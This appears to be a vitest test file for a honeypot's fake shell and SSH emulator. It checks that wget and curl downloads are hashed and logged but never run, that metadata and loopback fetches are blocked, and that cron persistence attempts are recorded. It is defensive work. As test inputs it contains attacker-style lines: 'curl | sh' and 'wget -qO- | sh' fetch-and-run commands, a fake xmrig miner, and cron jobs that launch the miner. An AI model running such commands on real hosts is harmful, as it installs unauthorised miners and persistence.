// The fake shell's wget/curl really fetch (a real HTTP server on this host's LAN address), hash what
// came, record a `download` event, and never run it; crontab and `>>` into cron files are accepted and
// recorded. The last case drives the whole path through the ssh emulator with a real SSH client.
import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces } from 'node:os'
import { Client } from 'ssh2'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Fields } from '../src/framework/tcp.ts'
import {
  fetchSample,
  MAX_DOWNLOAD_BYTES,
  MAX_DOWNLOADS_PER_SESSION,
} from '../src/protocols-text/shell/downloads.ts'
import { shellHost } from '../src/protocols-text/shell/persona.ts'
import { createShell, type FakeShell, settle } from '../src/protocols-text/shell/shell.ts'
import { startTestEmulator } from './helpers.ts'
import { alpinePersona, debianPersona } from './shell-personas.ts'

const MINER = Buffer.from(`\x7fELF${'xmrig-test-payload '.repeat(500)}`)
const BIG = Buffer.alloc(MAX_DOWNLOAD_BYTES + 300_000, 7)
let server: Server
let base = ''
const requests: string[] = []

/** A non-loopback IPv4 of this host: loopback is never fetched (it would be the decky itself). */
function lanAddress(): string {
  for (const list of Object.values(networkInterfaces()))
    for (const entry of list ?? []) if (entry.family === 'IPv4' && !entry.internal) return entry.address
  throw new Error('no non-loopback IPv4 address on this host')
}

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '')
    if (request.url?.startsWith('/xmrig')) response.end(MINER)
    else if (request.url === '/big') response.end(BIG)
    else if (request.url === '/moved') response.writeHead(302, { location: '/xmrig' }).end()
    else if (request.url === '/stall')
      response.writeHead(200).write('x') // never ends
    else response.writeHead(404).end('nope')
  })
  await new Promise<void>((resolve) => server.listen(0, lanAddress(), resolve))
  base = `http://${lanAddress()}:${(server.address() as AddressInfo).port}`
})
afterAll(() => {
  server.closeAllConnections()
  server.close()
})

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

function shellWithEvents(user = 'root', persona = debianPersona('0123456789abcdef0123456789abcdef')) {
  const events: { event: string; fields: Fields }[] = []
  const host = shellHost(persona, { bindAddress: '10.20.30.40', nowMs: Date.now() })
  const shell = createShell(host, user, {
    download: (url) => fetchSample(url, { timeoutMs: 1500 }),
    emit: (event, fields) => events.push({ event, fields }),
  })
  return { shell, events }
}

async function run(shell: FakeShell, line: string): Promise<string> {
  let printed = ''
  await settle(shell.run(line), (text) => {
    printed += text
  })
  return printed
}

describe('wget and curl in the fake shell', () => {
  it('wget -O saves the sample: the event carries url, sha256, size and filename; the file is listed, chmod +x and running it execute nothing', async () => {
    const { shell, events } = shellWithEvents()
    const printed = await run(shell, `cd /tmp; wget ${base}/xmrig -O /tmp/xmrig`)
    expect(printed).toMatch(/HTTP request sent, awaiting response\.\.\. 200 OK/)
    expect(printed).toMatch(/‘xmrig’ saved \[\d+\/\d+\]/)
    expect(events).toEqual([
      {
        event: 'download',
        fields: expect.objectContaining({
          url: `${base}/xmrig`,
          sha256: sha256(MINER),
          size: MINER.length,
          filename: 'xmrig',
          path: '/tmp/xmrig',
          truncated: false,
          status: 200,
          tool: 'wget',
        }),
      },
    ])
    expect(await run(shell, 'ls -l /tmp')).toMatch(
      new RegExp(`-rw-r--r-- 1 root root ${MINER.length} .* xmrig`),
    )
    expect(await run(shell, './xmrig')).toBe('-bash: ./xmrig: Permission denied\n')
    expect(await run(shell, 'chmod +x xmrig && ./xmrig -o pool.example:3333')).toBe(
      '-bash: ./xmrig: cannot execute binary file: Exec format error\n',
    )
  })

  it('curl -fsSL URL | sh fetches silently and runs nothing; redirects are followed; 404 is recorded with its status', async () => {
    const { shell, events } = shellWithEvents()
    expect(await run(shell, `curl -fsSL ${base}/moved | sh`)).toBe('')
    expect(events[0]?.fields).toMatchObject({
      url: `${base}/moved`,
      final_url: `${base}/xmrig`,
      sha256: sha256(MINER),
      path: '-',
      tool: 'curl',
    })
    expect(await run(shell, `curl -fsS ${base}/missing -o /tmp/m`)).toBe(
      'curl: (22) The requested URL returned error: 404\n',
    )
    expect(events[1]?.fields).toMatchObject({ status: 404, size: 4 })
    // Without -s, curl into a pipe shows its progress meter on stderr, as the real one does.
    expect(await run(shell, `curl ${base}/xmrig | bash`)).toMatch(/% Total {4}% Received/)
  })

  it('caps a download at 8 MiB (hash of the kept bytes, truncated) and gives up on a stalled server', async () => {
    const { shell, events } = shellWithEvents()
    await run(shell, `wget -q ${base}/big`)
    expect(events[0]?.fields).toMatchObject({
      size: MAX_DOWNLOAD_BYTES,
      truncated: true,
      sha256: sha256(BIG.subarray(0, MAX_DOWNLOAD_BYTES)),
    })
    const started = Date.now()
    await run(shell, `curl -s ${base}/stall -o /tmp/s`)
    expect(Date.now() - started).toBeLessThan(15_000)
    expect(events[1]?.fields).toMatchObject({ url: `${base}/stall`, error: 'timeout' })
  })

  it('never fetches loopback or link-local (the decky itself, cloud metadata): refused, recorded, no request made', async () => {
    const { shell, events } = shellWithEvents()
    const port = (server.address() as AddressInfo).port
    const before = requests.length
    expect(await run(shell, `wget http://127.0.0.1:${port}/xmrig`)).toMatch(/failed: Connection refused/)
    await run(shell, 'curl -s http://169.254.169.254/latest/meta-data/')
    await run(shell, `curl -s http://localhost:${port}/xmrig`)
    expect(requests.length).toBe(before)
    expect(events.map((e) => e.fields.error)).toEqual(['blocked', 'blocked', 'blocked'])
  })

  it('a user cannot save outside their home and the temp dirs (the fetch is still recorded)', async () => {
    const { shell, events } = shellWithEvents('deploy')
    expect(await run(shell, `cd /etc; wget -q ${base}/xmrig`)).toBe('xmrig: Permission denied\n')
    expect(await run(shell, 'ls /etc')).not.toMatch(/xmrig/)
    expect(events[0]?.fields).toMatchObject({ path: '/etc/xmrig', sha256: sha256(MINER) })
    await run(shell, `cd; wget -q ${base}/xmrig`)
    expect(await run(shell, 'ls')).toMatch(/xmrig/)
  })

  it('one session fetches at most MAX_DOWNLOADS_PER_SESSION times; later URLs are recorded, not fetched', async () => {
    const { shell, events } = shellWithEvents()
    const before = requests.length
    for (let i = 0; i < MAX_DOWNLOADS_PER_SESSION + 2; i++)
      await run(shell, `curl -s ${base}/xmrig?n=${i} -o /tmp/x${i}`)
    expect(requests.length - before).toBe(MAX_DOWNLOADS_PER_SESSION)
    expect(events.slice(-2).map((e) => e.fields.error)).toEqual(['limit', 'limit'])
    expect(events.at(-1)?.fields.url).toBe(`${base}/xmrig?n=${MAX_DOWNLOADS_PER_SESSION + 1}`)
  })

  it('busybox wget prints its own lines', async () => {
    const { shell, events } = shellWithEvents('root', alpinePersona('2'.repeat(32)))
    const printed = await run(shell, `wget ${base}/xmrig -O /tmp/x`)
    expect(printed).toMatch(/^Connecting to [\d.]+ \([\d.]+:\d+\)\nsaving to 'x'\n/)
    expect(events[0]?.fields.sha256).toBe(sha256(MINER))
  })
})

describe('crontab and cron files in the fake shell', () => {
  it('(crontab -l; echo JOB) | crontab - installs the job: crontab -l shows it and a cron_job event records it', async () => {
    const { shell, events } = shellWithEvents()
    expect(await run(shell, 'crontab -l')).toBe('no crontab for root\n')
    const job = '*/5 * * * * /tmp/xmrig -o pool.minexmr.example:4444 >/dev/null 2>&1'
    expect(await run(shell, `(crontab -l 2>/dev/null; echo "${job}") | crontab -`)).toBe('')
    expect(await run(shell, 'crontab -l')).toBe(`${job}\n`)
    expect(events).toEqual([
      { event: 'cron_job', fields: { username: 'root', via: 'crontab', source: 'stdin', jobs: job } },
    ])
    await run(shell, 'crontab -r')
    expect(await run(shell, 'crontab -l')).toBe('no crontab for root\n')
  })

  it('echo JOB >> /etc/crontab appends for root (cat shows it, event recorded); a user is denied', async () => {
    const { shell, events } = shellWithEvents()
    const job = '* * * * * root /tmp/.x/kworker'
    expect(await run(shell, `echo "${job}" >> /etc/crontab`)).toBe('')
    const crontab = await run(shell, 'cat /etc/crontab')
    expect(crontab).toMatch(/^# \/etc\/crontab: system-wide crontab/)
    expect(crontab.endsWith(`${job}\n`)).toBe(true)
    expect(events[0]).toEqual({
      event: 'cron_job',
      fields: { username: 'root', via: 'file', source: '/etc/crontab', jobs: job },
    })
    const user = shellWithEvents('deploy')
    expect(await run(user.shell, `echo "${job}" >> /etc/crontab`)).toBe(
      '-bash: /etc/crontab: Permission denied\n',
    )
    expect(user.events).toEqual([])
    // Their own files are theirs to write.
    expect(await run(user.shell, 'echo hello > /tmp/note; cat /tmp/note')).toBe('hello\n')
  })
})

describe('the ssh emulator with downloads', () => {
  let ssh: Awaited<ReturnType<typeof startTestEmulator>>
  beforeAll(async () => {
    ssh = await startTestEmulator('ssh', { config: { password: 'rootpw' }, seed: 'decky-ssh-dl' })
  })
  afterAll(() => ssh.running.close())

  it('an exec channel (`ssh host "wget -qO- URL | sh"`) downloads, records the sample and ends cleanly', async () => {
    const client = new Client()
    await new Promise<void>((resolve, reject) => {
      client.once('ready', resolve).on('error', reject)
      client.connect({
        host: ssh.host,
        port: ssh.port,
        username: 'root',
        password: 'rootpw',
        readyTimeout: 10_000,
      })
    })
    try {
      const code = await new Promise<number>((resolve, reject) =>
        client.exec(`wget -qO- ${base}/xmrig | sh`, (error, stream) => {
          if (error) return reject(error)
          let exit = -1
          stream.on('exit', (c: number) => (exit = c)).on('data', () => undefined)
          stream.on('close', () => resolve(exit))
        }),
      )
      expect(code).toBe(0)
      const download = await ssh.waitFor((e) => e.event === 'download')
      expect(download.fields).toMatchObject({ url: `${base}/xmrig`, sha256: sha256(MINER), username: 'root' })
    } finally {
      client.end()
    }
  })
})
